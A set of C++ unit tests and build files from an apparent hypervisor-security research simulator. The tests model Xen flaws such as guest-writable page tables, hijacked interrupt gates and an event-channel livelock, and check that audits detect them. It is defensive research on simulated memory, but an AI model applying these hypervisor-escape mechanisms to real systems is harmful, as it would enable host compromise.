  // Simulate a kill after 5 completed cells: keep the header + 5 entries,
  // then a torn half-line such as a dying process leaves behind.
  std::vector<std::string> lines;
  {
    std::ifstream in{path};
    std::string line;
    while (std::getline(in, line)) lines.push_back(line);
  }
  ASSERT_EQ(lines.size(), 13u);  // header + 12 cells
  {
    std::ofstream out{path, std::ios::trunc};
    for (std::size_t i = 0; i < 6; ++i) out << lines[i] << '\n';
    out << lines[6].substr(0, lines[6].size() / 2);  // torn, no newline
  }

  // Resume: journaled cells are reused, the torn one and the rest re-run.
  full_runs = 0;
  supervision.resume = true;
  const auto resumed =
      core::CampaignSupervisor{config, supervision}.run(factory);
  EXPECT_EQ(core::render_csv(resumed), full_csv);
  EXPECT_LT(full_runs, runs_in_full);

  // The rewritten journal is complete again: a second resume re-runs
  // nothing at all.
  full_runs = 0;
  const auto resumed_again =
      core::CampaignSupervisor{config, supervision}.run(factory);
  EXPECT_EQ(core::render_csv(resumed_again), full_csv);
  EXPECT_EQ(full_runs, 0u);
  std::remove(path.c_str());
}

TEST(Supervisor, ResumeRefusesAForeignJournalHeader) {
  const std::string path = temp_journal("foreign");
  auto config = small_config();
  core::SupervisorConfig supervision{};
  supervision.journal_path = path;
  supervision.resume = true;

  // A journal recorded under a different campaign shape (other versions).
  auto other = config;
  other.versions = {hv::kXen46};
  {
    std::ofstream out{path, std::ios::trunc};
    out << core::journal_header(other, 1, 0) << '\n';
  }

  const core::CampaignSupervisor supervisor{config, supervision};
  EXPECT_THROW((void)supervisor.run([] {
    std::vector<std::unique_ptr<core::UseCase>> cases;
    cases.push_back(std::make_unique<ThrowingCase>());
    return cases;
  }),
               std::runtime_error);
  std::remove(path.c_str());
}

TEST(Supervisor, JournalSkippedCountSurfacesInTheMetrics) {
  const std::string path = temp_journal("skipped");
  std::remove(path.c_str());

  auto config = small_config();
  core::SupervisorConfig supervision{};
  supervision.journal_path = path;

  unsigned runs = 0;
  const auto factory = [&runs] {
    std::vector<std::unique_ptr<core::UseCase>> cases;
    cases.push_back(std::make_unique<CountingCase>(&runs));
    return cases;
  };
  (void)core::CampaignSupervisor{config, supervision}.run(factory);

  // Corrupt two journaled lines in place (bit rot, not a torn tail).
  std::vector<std::string> lines;
  {
    std::ifstream in{path};
    std::string line;
    while (std::getline(in, line)) lines.push_back(line);
  }
  ASSERT_EQ(lines.size(), 7u);  // header + 6 cells
  lines[2][lines[2].find("COUNTING")] = 'X';
  lines[4][lines[4].find("COUNTING")] = 'X';
  {
    std::ofstream out{path, std::ios::trunc};
    for (const auto& line : lines) out << line << '\n';
  }

  supervision.resume = true;
  runs = 0;
  const auto resumed =
      core::CampaignSupervisor{config, supervision}.run(factory);
  ASSERT_FALSE(resumed.empty());
  EXPECT_EQ(resumed.front().metrics.counters.at("supervisor.journal_skipped"),
            2u);
  EXPECT_EQ(runs, 2u);  // only the corrupted cells re-ran
  std::remove(path.c_str());
}

// The crash-resume property: kill the campaign at a chaos-chosen journal
// append, resume, and the final report must be byte-identical to the
// uninterrupted run's — at several kill points, including one deep enough
// that a second kill hits the resumed run.
TEST(Supervisor, KilledCampaignResumesToTheIdenticalReport) {
  auto config = small_config();
  core::SupervisorConfig supervision{};

  const auto factory = [] {
    auto cases = xsa::make_paper_use_cases();
    cases.resize(2);  // 12 cells
    return cases;
  };

  // Fault-free baseline (no engine installed).
  const std::string baseline = core::render_csv(
      core::CampaignSupervisor{config, supervision}.run(factory));

  for (const std::uint64_t kill_at : {1u, 5u, 11u}) {
    const std::string path = temp_journal("kill" + std::to_string(kill_at));
    std::remove(path.c_str());
    supervision.journal_path = path;
    supervision.resume = false;

    // supervisor.kill occurrence N = the N-th fresh journal append; the
    // plan kills the first run there and, because resumed runs append
    // fewer fresh cells, later resumes run kill-free to completion.
    core::ChaosEngine engine{
        31, core::parse_chaos_plan("supervisor.kill@" +
                                   std::to_string(kill_at))};
    const core::ChaosScope scope{engine};

    EXPECT_THROW((void)(core::CampaignSupervisor{config, supervision}.run(
                     factory)),
                 core::CampaignKilled);
    EXPECT_EQ(engine.fired("supervisor.kill"), 1u);

    // Resume until the campaign gets all the way through (the kill point
    // cannot re-fire: each resume appends fewer fresh cells than the last
    // needed, and occurrence counting continues from the first run).
    supervision.resume = true;
    std::vector<core::CellResult> resumed;
    for (int tries = 0; tries < 15; ++tries) {
      try {
        resumed = core::CampaignSupervisor{config, supervision}.run(factory);
        break;
      } catch (const core::CampaignKilled&) {
        continue;
      }
    }
    ASSERT_FALSE(resumed.empty()) << "kill_at=" << kill_at;
    EXPECT_EQ(core::render_csv(resumed), baseline) << "kill_at=" << kill_at;
    std::remove(path.c_str());
  }
}

TEST(Supervisor, SupervisorCountersLandInTheMetricsSnapshot) {
  core::SupervisorConfig supervision{};
  supervision.max_attempts = 2;
  const core::CampaignSupervisor supervisor{small_config(), supervision};
  const auto results = supervisor.run([] {
    std::vector<std::unique_ptr<core::UseCase>> cases;
    cases.push_back(std::make_unique<ThrowingCase>());
    return cases;
  });
  ASSERT_FALSE(results.empty());
  const auto& counters = results[0].metrics.counters;
  EXPECT_EQ(counters.at("supervisor.attempts"), 2u);
  EXPECT_EQ(counters.at("supervisor.failed"), 1u);
  EXPECT_EQ(counters.at("supervisor.quarantined"), 0u);
}

}  // namespace
}  // namespace ii
