// Differential property test: the production MMU walker against an
// independently written reference interpreter, over randomized page-table
// forests. Any divergence in translation result, permissions, page size or
// fault classification is a bug in one of the two — and the reference is
// deliberately written in the dumbest possible style.
#include <gtest/gtest.h>

#include <optional>
#include <random>

#include "sim/mmu.hpp"

namespace ii::sim {
namespace {

/// The reference: a literal transcription of the x86-64 4-level walk.
struct RefResult {
  bool fault = false;
  FaultReason reason{};
  std::uint64_t physical = 0;
  bool writable = false, user = false, executable = false;
  std::uint64_t page_bytes = 0;
};

RefResult ref_walk(const PhysicalMemory& mem, Mfn root, std::uint64_t va) {
  RefResult r{};
  const std::uint64_t upper = va >> 47;
  if (upper != 0 && upper != 0x1FFFF) {
    r.fault = true;
    r.reason = FaultReason::NonCanonical;
    return r;
  }
  std::uint64_t table = root.raw();
  bool rw = true, us = true, x = true;
  for (int level = 4; level >= 1; --level) {
    if (table >= mem.frame_count()) {
      r.fault = true;
      r.reason = FaultReason::BadFrame;
      return r;
    }
    const unsigned shift = 12 + 9 * (level - 1);
    const unsigned index = (va >> shift) & 0x1FF;
    const std::uint64_t raw = mem.read_u64(Paddr{table * kPageSize + index * 8});
    if (!(raw & 1)) {
      r.fault = true;
      r.reason = FaultReason::NotPresent;
      return r;
    }
    if (raw & ~(Pte::kFrameMask | Pte::kFlagMask)) {
      r.fault = true;
      r.reason = FaultReason::ReservedBit;
      return r;
    }
    rw = rw && (raw & 2);
    us = us && (raw & 4);
    x = x && !(raw >> 63);
    const std::uint64_t frame = (raw & Pte::kFrameMask) >> 12;
    const bool pse = raw & 0x80;
    if (level == 4 && pse) {
      r.fault = true;
      r.reason = FaultReason::ReservedBit;
      return r;
    }
    if (level == 1 || (pse && level <= 3)) {
      const std::uint64_t span = std::uint64_t{1} << shift;
      const std::uint64_t pa = frame * kPageSize + (va & (span - 1));
      if (pa >= mem.byte_size()) {
        r.fault = true;
        r.reason = FaultReason::BadFrame;
        return r;
      }
      r.physical = pa;
      r.writable = rw;
      r.user = us;
      r.executable = x;
      r.page_bytes = span;
      return r;
    }
    table = frame;
  }
  r.fault = true;
  r.reason = FaultReason::NotPresent;
  return r;
}

/// Build a random forest of tables in the low frames, with entries drawn
/// from a distribution that hits every interesting case: absent, present,
/// PSE, reserved bits, out-of-range frames, self references.
void randomize_tables(PhysicalMemory& mem, std::mt19937& rng,
                      std::uint64_t table_frames) {
  for (std::uint64_t t = 0; t < table_frames; ++t) {
    for (unsigned s = 0; s < kPtEntries; ++s) {
      const unsigned kind = rng() % 8;
      std::uint64_t raw = 0;
      if (kind >= 2) {
        std::uint64_t frame = rng() % (table_frames + 4);  // mostly tables
        if (kind == 7) frame = rng() % (1 << 20);          // sometimes wild
        std::uint64_t flags = 1;  // present
        if (rng() % 2) flags |= 2;
        if (rng() % 2) flags |= 4;
        if (rng() % 4 == 0) flags |= 0x80;  // PSE
        if (rng() % 16 == 0) flags |= 1ULL << 9;  // reserved bit
        if (rng() % 8 == 0) flags |= 1ULL << 63;  // NX
        raw = ((frame << 12) & Pte::kFrameMask) | flags;
      }
      mem.write_slot(Mfn{t}, s, raw);
    }
  }
}

class MmuDifferential : public ::testing::TestWithParam<unsigned> {};

TEST_P(MmuDifferential, AgreesWithReferenceOnRandomForests) {
  std::mt19937 rng{GetParam()};
  PhysicalMemory mem{64};
  Mmu mmu{mem};
  randomize_tables(mem, rng, 16);

  for (int probe = 0; probe < 2000; ++probe) {
    // Half the probes are well-formed canonical addresses over the table
    // space; half are arbitrary 64-bit patterns.
    std::uint64_t va;
    if (probe % 2 == 0) {
      va = compose_vaddr(rng() % 512, rng() % 512, rng() % 512, rng() % 512,
                         rng() % kPageSize)
               .raw();
    } else {
      va = (std::uint64_t{rng()} << 32) | rng();
    }
    const Mfn root{rng() % 16};

    const RefResult expected = ref_walk(mem, root, va);
    const auto actual = mmu.walk(root, Vaddr{va});
    if (expected.fault) {
      ASSERT_FALSE(actual.has_value())
          << "va " << std::hex << va << " root " << root.raw();
      EXPECT_EQ(actual.error().reason, expected.reason)
          << "va " << std::hex << va;
    } else {
      ASSERT_TRUE(actual.has_value()) << "va " << std::hex << va << ": "
                                      << actual.error().describe();
      EXPECT_EQ(actual->physical.raw(), expected.physical);
      EXPECT_EQ(actual->writable, expected.writable);
      EXPECT_EQ(actual->user, expected.user);
      EXPECT_EQ(actual->executable, expected.executable);
      EXPECT_EQ(actual->page_bytes, expected.page_bytes);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, MmuDifferential,
                         ::testing::Values(1u, 2u, 3u, 5u, 8u, 13u, 21u, 34u));

}  // namespace
}  // namespace ii::sim
