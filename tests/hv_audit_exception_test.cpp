// Auditing (page tables, IDT, reserved slots), exception dispatch
// (double faults, hijacked gates, code execution), and the trace/console
// behaviour of the panic and CPU-hang paths.
#include <gtest/gtest.h>

#include "hv/audit.hpp"
#include "hv/hypervisor.hpp"
#include "obs/trace.hpp"

namespace ii::hv {
namespace {

constexpr std::uint64_t kPUW =
    sim::Pte::kPresent | sim::Pte::kUser | sim::Pte::kWritable;

struct Fixture {
  explicit Fixture(XenVersion version = kXen48)
      : mem{8192}, hv{mem, VersionPolicy::for_version(version)} {
    dom0 = hv.create_domain("dom0", true, 64);
    guest = hv.create_domain("guest01", false, 64);
  }
  sim::Mfn guest_mfn(std::uint64_t pfn) {
    return *hv.domain(guest).p2m(sim::Pfn{pfn});
  }
  sim::PhysicalMemory mem;
  Hypervisor hv;
  DomainId dom0{}, guest{};
};

// --------------------------------------------------------------- auditing

TEST(Audit, DetectsGuestWritablePageTable) {
  Fixture f;
  // Tamper directly (simulating a successful intrusion): point an L1 slot
  // at the guest's own L1 table, writable.
  const sim::Mfn l1 = f.guest_mfn(60);
  f.mem.write_slot(l1, 5, sim::Pte::make(l1, kPUW).raw());
  const auto report = audit_system(f.hv);
  EXPECT_TRUE(report.has(FindingKind::GuestWritablePageTable));
}

TEST(Audit, DetectsGuestWritableXenFrame) {
  Fixture f;
  f.mem.write_slot(f.guest_mfn(60), 5,
                   sim::Pte::make(sim::Mfn{1}, kPUW).raw());  // the IDT frame
  EXPECT_TRUE(audit_system(f.hv).has(FindingKind::GuestWritableXenFrame));
}

TEST(Audit, DetectsForeignFrameMapping) {
  Fixture f;
  const sim::Mfn foreign = *f.hv.domain(f.dom0).p2m(sim::Pfn{3});
  f.mem.write_slot(f.guest_mfn(60), 5,
                   sim::Pte::make(foreign, sim::Pte::kPresent |
                                               sim::Pte::kUser)
                       .raw());
  const auto report = audit_system(f.hv);
  EXPECT_TRUE(report.has(FindingKind::GuestMapsForeignFrame));
}

TEST(Audit, DetectsCorruptIdtGate) {
  Fixture f;
  f.mem.write_u64(f.hv.idt().gate_address(14), 0x1234);
  const auto report = audit_system(f.hv);
  EXPECT_TRUE(report.has(FindingKind::CorruptIdtGate));
}

TEST(Audit, DetectsForeignXenL3Entry) {
  Fixture f;
  f.mem.write_slot(f.hv.xen_l3(), 300,
                   sim::Pte::make(f.guest_mfn(5), kPUW).raw());
  EXPECT_TRUE(audit_system(f.hv).has(FindingKind::ForeignXenL3Entry));
}

TEST(Audit, DetectsReservedSlotTampering) {
  Fixture f;
  // A WRITABLE linear self map (the XSA-182 erroneous state) is tampering
  // on every version, including the pre-4.9 policies that tolerate the
  // read-only linear-page-table facility in this slot.
  f.mem.write_slot(f.hv.domain(f.guest).cr3(), kLinearPtSlot,
                   sim::Pte::make(f.hv.domain(f.guest).cr3(),
                                  sim::Pte::kPresent | sim::Pte::kWritable |
                                      sim::Pte::kUser)
                       .raw());
  EXPECT_TRUE(audit_system(f.hv).has(FindingKind::ReservedSlotTampered));
}

TEST(Audit, ReadOnlyLinearSelfMapLegalOnlyPre49) {
  // The legitimate pre-4.9 linear-page-table shape: a read-only self map
  // of the domain's own validated L4. validate_and_write_entry accepts it
  // on 4.6/4.8, so the audit must not flag it there — but 4.9+ rejects any
  // guest entry in the reserved slots, so on 4.13 the same PTE is tampering.
  Fixture old{kXen48};
  old.mem.write_slot(old.hv.domain(old.guest).cr3(), kLinearPtSlot,
                     sim::Pte::make(old.hv.domain(old.guest).cr3(),
                                    sim::Pte::kPresent | sim::Pte::kUser)
                         .raw());
  EXPECT_FALSE(audit_system(old.hv).has(FindingKind::ReservedSlotTampered));

  Fixture strict{kXen413};
  strict.mem.write_slot(strict.hv.domain(strict.guest).cr3(), kLinearPtSlot,
                        sim::Pte::make(strict.hv.domain(strict.guest).cr3(),
                                       sim::Pte::kPresent | sim::Pte::kUser)
                            .raw());
  EXPECT_TRUE(audit_system(strict.hv).has(FindingKind::ReservedSlotTampered));
}

TEST(Audit, FindingNamesAreStable) {
  EXPECT_EQ(to_string(FindingKind::GuestWritablePageTable),
            "guest-writable page-table frame");
  EXPECT_EQ(to_string(FindingKind::CorruptIdtGate), "corrupt IDT gate");
}

TEST(Audit, ForEachLeafCoversGuestDirectmap) {
  Fixture f;
  std::uint64_t user_leaves = 0;
  for_each_leaf(f.hv, f.hv.domain(f.guest).cr3(),
                [&](const LeafMapping& m) {
                  if (m.user && m.va.raw() >= kGuestKernelBase &&
                      m.va.raw() < kGuestKernelBase + (1ULL << 30)) {
                    user_leaves += m.bytes / sim::kPageSize;
                  }
                });
  // Every guest page except the unmapped grant-status window.
  EXPECT_EQ(user_leaves, 63u);
}

// -------------------------------------------------------------- exceptions

TEST(Exceptions, DefaultGateHandlesQuietly) {
  Fixture f;
  EXPECT_EQ(f.hv.software_interrupt(f.guest, 14), kOk);
  EXPECT_FALSE(f.hv.crashed());
}

TEST(Exceptions, MalformedGateDoubleFaults) {
  Fixture f;
  f.mem.write_u64(f.hv.idt().gate_address(14), 0x1234);
  EXPECT_EQ(f.hv.software_interrupt(f.guest, 14), kOk);
  EXPECT_TRUE(f.hv.crashed());
  bool double_fault = false;
  for (const auto& line : f.hv.console()) {
    if (line.find("DOUBLE FAULT") != std::string::npos) double_fault = true;
  }
  EXPECT_TRUE(double_fault);
}

TEST(Exceptions, GuestFaultThroughCorruptGateCrashesHost) {
  // The XSA-212-crash mechanism in isolation: corrupt gate + guest fault.
  Fixture f;
  f.mem.write_u64(f.hv.idt().gate_address(14), 0);
  std::array<std::uint8_t, 1> byte{};
  EXPECT_FALSE(
      f.hv.guest_read(f.guest, sim::Vaddr{0xDEAD000000ULL}, byte)
          .has_value());
  EXPECT_TRUE(f.hv.crashed());
}

TEST(Exceptions, HijackedGateToUnmappedCodeDoubleFaults) {
  Fixture f;
  f.hv.idt().write(0x80, sim::IdtGate::interrupt_gate(0xDEAD00000000ULL));
  EXPECT_EQ(f.hv.software_interrupt(f.guest, 0x80), kOk);
  EXPECT_TRUE(f.hv.crashed());
}

TEST(Exceptions, HijackedGateToMappedCodeRunsExecutor) {
  Fixture f;
  // Map attacker "code" into the shared Xen L3 and register a gate on it.
  const sim::Mfn pmd = f.guest_mfn(10);
  const sim::Mfn l1t = f.guest_mfn(11);
  const sim::Mfn code = f.guest_mfn(12);
  f.mem.write_slot(l1t, 0, sim::Pte::make(code, kPUW).raw());
  f.mem.write_slot(pmd, 0, sim::Pte::make(l1t, kPUW).raw());
  f.mem.write_slot(f.hv.xen_l3(), 300, sim::Pte::make(pmd, kPUW).raw());
  const sim::Vaddr handler = sim::compose_vaddr(256, 300, 0, 0, 0x40);

  ExecutionContext seen{};
  bool executed = false;
  f.hv.set_code_executor([&](const ExecutionContext& ctx) {
    seen = ctx;
    executed = true;
  });
  f.hv.idt().write(0x80, sim::IdtGate::interrupt_gate(handler.raw()));
  EXPECT_EQ(f.hv.software_interrupt(f.guest, 0x80), kOk);
  ASSERT_TRUE(executed);
  EXPECT_FALSE(f.hv.crashed());
  EXPECT_EQ(seen.vector, 0x80u);
  EXPECT_EQ(seen.code_frame, code);
  EXPECT_EQ(seen.offset, 0x40u);
}

TEST(Exceptions, InvalidVectorRejected) {
  Fixture f;
  EXPECT_EQ(f.hv.software_interrupt(f.guest, 256), kEINVAL);
}

TEST(Exceptions, HypercallsRefusedAfterCrash) {
  Fixture f;
  f.hv.panic("halt");
  const MmuUpdate req{0, 0};
  EXPECT_EQ(f.hv.hypercall_mmu_update(f.guest, {&req, 1}), kEINVAL);
  MemoryExchange exch{};
  EXPECT_EQ(f.hv.hypercall_memory_exchange(f.guest, exch), kEINVAL);
  EXPECT_EQ(f.hv.hypercall_console_io(f.guest, "x"), kEINVAL);
  EXPECT_EQ(f.hv.software_interrupt(f.guest, 14), kEINVAL);
  std::array<std::uint8_t, 1> byte{};
  EXPECT_FALSE(f.hv.guest_read(f.guest, sim::Vaddr{kGuestKernelBase}, byte)
                   .has_value());
}

// ------------------------------------------------ panic / hang observability

TEST(TraceObservability, PanicEmitsEventAndKeepsConsoleBanner) {
  Fixture f;
  obs::TraceSink sink;
  f.hv.set_trace_sink(&sink);
  f.hv.panic("FATAL PAGE FAULT");
  EXPECT_EQ(sink.count(obs::TraceCategory::Panic), 1u);

  bool banner = false;
  bool reason = false;
  for (const auto& line : f.hv.console()) {
    if (line.find("Panic on CPU 0:") != std::string::npos) banner = true;
    if (line.find("FATAL PAGE FAULT") != std::string::npos) reason = true;
  }
  EXPECT_TRUE(banner);
  EXPECT_TRUE(reason);

  // Repeated panics stay idempotent, on the trace side too.
  f.hv.panic("again");
  EXPECT_EQ(sink.count(obs::TraceCategory::Panic), 1u);
}

TEST(TraceObservability, CpuHangPathEmitsEventAndConsoleLines) {
  // Drive the real livelock: 4.8 re-queues events raised on handler-less
  // ports, so one pending bit wedges the delivery loop.
  Fixture f{kXen48};
  obs::TraceSink sink;
  f.hv.set_trace_sink(&sink);

  unsigned gport = 0;
  unsigned dport = 0;
  ASSERT_EQ(f.hv.events().alloc_unbound(f.guest, f.dom0, &gport), kOk);
  ASSERT_EQ(f.hv.events().bind_interdomain(f.dom0, f.guest, gport, &dport),
            kOk);
  ASSERT_EQ(f.hv.events().send(f.dom0, dport), kOk);

  const auto result = f.hv.events().dispatch(f.guest);
  EXPECT_TRUE(result.livelocked);
  EXPECT_TRUE(f.hv.cpu_hung());
  EXPECT_EQ(sink.count(obs::TraceCategory::CpuHang), 1u);

  bool stuck = false;
  bool watchdog = false;
  for (const auto& line : f.hv.console()) {
    if (line.find("stuck in event delivery loop") != std::string::npos) {
      stuck = true;
    }
    if (line.find("Watchdog timer detects that CPU0 is stuck!") !=
        std::string::npos) {
      watchdog = true;
    }
  }
  EXPECT_TRUE(stuck);
  EXPECT_TRUE(watchdog);
}

TEST(TraceObservability, HangWithoutSinkStillLogs) {
  Fixture f;
  f.hv.report_cpu_hang("CPU0: wedged");
  EXPECT_TRUE(f.hv.cpu_hung());
  bool watchdog = false;
  for (const auto& line : f.hv.console()) {
    if (line.find("Watchdog timer") != std::string::npos) watchdog = true;
  }
  EXPECT_TRUE(watchdog);
}

// ------------------------------------------- 4.13 hardened access checks

TEST(HardenedAccess, GuestBlockedFromLinearWindowOn413) {
  Fixture f{kXen413};
  // Even with a valid-looking entry linked into the Xen L3, the guest
  // cannot reach the linear-page-table window.
  const sim::Mfn pmd = f.guest_mfn(10);
  f.mem.write_slot(f.hv.xen_l3(), 300, sim::Pte::make(pmd, kPUW).raw());
  std::array<std::uint8_t, 1> byte{};
  const auto res = f.hv.guest_read(
      f.guest, sim::compose_vaddr(256, 300, 0, 0), byte);
  ASSERT_FALSE(res.has_value());
  EXPECT_EQ(res.error().reason, sim::FaultReason::UserProtected);
}

TEST(HardenedAccess, SameAccessWorksPre49OnceMapped) {
  Fixture f{kXen46};
  const sim::Mfn pmd = f.guest_mfn(10);
  const sim::Mfn l1t = f.guest_mfn(11);
  const sim::Mfn data = f.guest_mfn(12);
  f.mem.write_slot(l1t, 0, sim::Pte::make(data, kPUW).raw());
  f.mem.write_slot(pmd, 0, sim::Pte::make(l1t, kPUW).raw());
  f.mem.write_slot(f.hv.xen_l3(), 300, sim::Pte::make(pmd, kPUW).raw());
  std::array<std::uint8_t, 1> byte{0x7E};
  ASSERT_TRUE(f.hv.guest_write(f.guest, sim::compose_vaddr(256, 300, 0, 0),
                               byte)
                  .has_value());
  EXPECT_EQ(f.mem.frame_bytes(data)[0], 0x7E);
}

}  // namespace
}  // namespace ii::hv
