// Coverage for smaller surfaces: guest trap tables, event-channel masking
// wrappers, report-renderer edge cases, and a corruption-offset property
// sweep over the transactional log.
#include <gtest/gtest.h>

#include "core/report.hpp"
#include "guest/platform.hpp"
#include "txdb/txdb.hpp"

namespace ii {
namespace {

guest::PlatformConfig small_config(hv::XenVersion version = hv::kXen48) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return pc;
}

// ---------------------------------------------------------------- trap table

TEST(TrapTable, RegistersAndLooksUpHandlers) {
  guest::VirtualPlatform p{small_config()};
  const hv::TrapInfo traps[] = {
      {14, sim::Vaddr{hv::kGuestKernelBase + 0x1000}},
      {13, sim::Vaddr{hv::kGuestKernelBase + 0x2000}},
  };
  ASSERT_EQ(p.hv().hypercall_set_trap_table(p.guest(0).id(), traps), hv::kOk);
  const hv::Domain& dom = p.hv().domain(p.guest(0).id());
  EXPECT_EQ(dom.trap_handler(14),
            sim::Vaddr{hv::kGuestKernelBase + 0x1000});
  EXPECT_EQ(dom.trap_handler(13),
            sim::Vaddr{hv::kGuestKernelBase + 0x2000});
  EXPECT_FALSE(dom.trap_handler(8).has_value());
  // Re-registration overwrites.
  const hv::TrapInfo again[] = {{14, sim::Vaddr{0x42}}};
  ASSERT_EQ(p.hv().hypercall_set_trap_table(p.guest(0).id(), again), hv::kOk);
  EXPECT_EQ(dom.trap_handler(14), sim::Vaddr{0x42});
}

TEST(TrapTable, RefusedAfterCrash) {
  guest::VirtualPlatform p{small_config()};
  p.hv().panic("halt");
  const hv::TrapInfo traps[] = {{14, sim::Vaddr{1}}};
  EXPECT_EQ(p.hv().hypercall_set_trap_table(p.guest(0).id(), traps),
            hv::kEINVAL);
}

// --------------------------------------------------------------- evtchn mask

TEST(EvtchnMask, WrapperSetsAndClearsSharedInfoBits) {
  guest::VirtualPlatform p{small_config()};
  guest::GuestKernel& g = p.guest(0);
  ASSERT_EQ(g.evtchn_mask(70, true), hv::kOk);
  const auto mfn = g.pfn_to_mfn(guest::kSharedInfoPfn);
  const std::uint64_t word = p.memory().read_u64(
      sim::mfn_to_paddr(*mfn) + hv::SharedInfoLayout::kMaskOffset + 8);
  EXPECT_TRUE(word & (1ULL << (70 - 64)));
  ASSERT_EQ(g.evtchn_mask(70, false), hv::kOk);
  EXPECT_EQ(p.memory().read_u64(sim::mfn_to_paddr(*mfn) +
                                hv::SharedInfoLayout::kMaskOffset + 8),
            0u);
  EXPECT_EQ(g.evtchn_mask(512, true), hv::kEINVAL);
}

TEST(EvtchnMask, MaskedDeliveryIsDeferredUntilUnmask) {
  guest::VirtualPlatform p{small_config()};
  guest::GuestKernel& a = p.guest(0);
  guest::GuestKernel& b = p.guest(1);
  unsigned b_port = 0, a_port = 0;
  ASSERT_EQ(b.evtchn_alloc_unbound(a.id(), &b_port), hv::kOk);
  ASSERT_EQ(a.evtchn_bind(b.id(), b_port, &a_port), hv::kOk);
  ASSERT_EQ(b.evtchn_register_handler(b_port), hv::kOk);
  ASSERT_EQ(b.evtchn_mask(b_port, true), hv::kOk);

  ASSERT_EQ(a.evtchn_send(a_port), hv::kOk);
  EXPECT_EQ(b.handle_events().delivered, 0u);  // masked: deferred
  EXPECT_TRUE(p.hv().events().pending(b.id(), b_port));
  ASSERT_EQ(b.evtchn_mask(b_port, false), hv::kOk);
  EXPECT_EQ(b.handle_events().delivered, 1u);
}

// ------------------------------------------------------------ renderer edges

TEST(RenderEdges, Rq1TableMarksMissingCells) {
  std::vector<core::CellResult> results;
  core::CellResult cell{};
  cell.use_case = "ONLY-INJECTION";
  cell.version = hv::kXen46;
  cell.mode = core::Mode::Injection;
  cell.err_state = true;
  cell.violation = true;
  results.push_back(cell);
  const std::string out = core::render_rq1_table(results);
  EXPECT_NE(out.find("ONLY-INJECTION"), std::string::npos);
  EXPECT_NE(out.find("| - "), std::string::npos);  // missing exploit cells
}

TEST(RenderEdges, FailedInjectionRendersCross) {
  std::vector<core::CellResult> results;
  core::CellResult cell{};
  cell.use_case = "CASE";
  cell.version = hv::kXen48;
  cell.mode = core::Mode::Injection;
  cell.err_state = false;
  cell.violation = false;
  results.push_back(cell);
  const std::string out = core::render_table3(results);
  EXPECT_NE(out.find("| x "), std::string::npos);
  EXPECT_EQ(out.find("[shield]"), std::string::npos);  // not handled: no state
}

TEST(RenderEdges, UnicodeColumnsStayAligned) {
  // The check mark is multi-byte; alignment must use display width.
  const std::string out =
      core::render_table({"A", "B"}, {{"✓", "plain"}, {"xx", "✓✓"}});
  std::size_t first_line_len = out.find('\n');
  for (std::size_t pos = 0; pos < out.size();) {
    const std::size_t next = out.find('\n', pos);
    const std::string line = out.substr(pos, next - pos);
    // Every border line has identical length; content lines may differ in
    // bytes but all end with '|'.
    if (!line.empty() && line.front() == '+') {
      EXPECT_EQ(line.size(), first_line_len);
    }
    if (next == std::string::npos) break;
    pos = next + 1;
  }
}

// ------------------------------------------------ txdb corruption sweep

/// Property: flipping one byte anywhere in the log region either leaves the
/// store verifiably intact (byte was in slack space) or is detected as a
/// torn record — and recovery never exposes a partial transaction.
class CorruptionSweep : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(CorruptionSweep, DetectedOrHarmlessNeverPartial) {
  txdb::VectorStorage storage{1 << 14};
  txdb::TransactionalKV db{storage};
  for (int i = 0; i < 10; ++i) {
    txdb::Transaction tx;
    tx.put("pair-a-" + std::to_string(i), std::string(20, 'A' + i % 26));
    tx.put("pair-b-" + std::to_string(i), std::string(20, 'a' + i % 26));
    ASSERT_TRUE(db.commit(tx));
  }

  const std::uint64_t offset = 64 + GetParam();  // inside the log area
  storage.bytes()[offset] ^= 0x5A;

  txdb::TransactionalKV recovered{storage, /*format=*/false};
  const auto report = recovered.verify();
  // Each committed transaction wrote a pair; recovery must expose both
  // halves or neither.
  for (int i = 0; i < 10; ++i) {
    const bool a = recovered.get("pair-a-" + std::to_string(i)).has_value();
    const bool b = recovered.get("pair-b-" + std::to_string(i)).has_value();
    EXPECT_EQ(a, b) << "partial transaction " << i << " exposed at offset "
                    << offset;
  }
  // If anything was lost, the report must say so.
  if (recovered.committed_count() < 10) {
    EXPECT_TRUE(report.torn_record_found || report.log_unreadable)
        << "silent data loss at offset " << offset;
  }
}

INSTANTIATE_TEST_SUITE_P(Offsets, CorruptionSweep,
                         ::testing::Values(0u, 3u, 8u, 21u, 64u, 100u, 200u,
                                           333u, 500u, 700u, 799u));

}  // namespace
}  // namespace ii
