# Empty compiler generated dependencies file for fig4_rq1_validation.
# This may be replaced when dependencies are built.
