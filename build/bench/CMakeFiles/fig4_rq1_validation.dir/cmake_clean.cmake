file(REMOVE_RECURSE
  "CMakeFiles/fig4_rq1_validation.dir/fig4_rq1_validation.cpp.o"
  "CMakeFiles/fig4_rq1_validation.dir/fig4_rq1_validation.cpp.o.d"
  "fig4_rq1_validation"
  "fig4_rq1_validation.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig4_rq1_validation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
