file(REMOVE_RECURSE
  "CMakeFiles/table1_abusive_functionality.dir/table1_abusive_functionality.cpp.o"
  "CMakeFiles/table1_abusive_functionality.dir/table1_abusive_functionality.cpp.o.d"
  "table1_abusive_functionality"
  "table1_abusive_functionality.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table1_abusive_functionality.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
