# Empty dependencies file for table1_abusive_functionality.
# This may be replaced when dependencies are built.
