# Empty dependencies file for table3_campaign.
# This may be replaced when dependencies are built.
