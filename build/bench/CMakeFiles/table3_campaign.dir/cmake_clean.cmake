file(REMOVE_RECURSE
  "CMakeFiles/table3_campaign.dir/table3_campaign.cpp.o"
  "CMakeFiles/table3_campaign.dir/table3_campaign.cpp.o.d"
  "table3_campaign"
  "table3_campaign.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table3_campaign.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
