# Empty dependencies file for table2_use_cases.
# This may be replaced when dependencies are built.
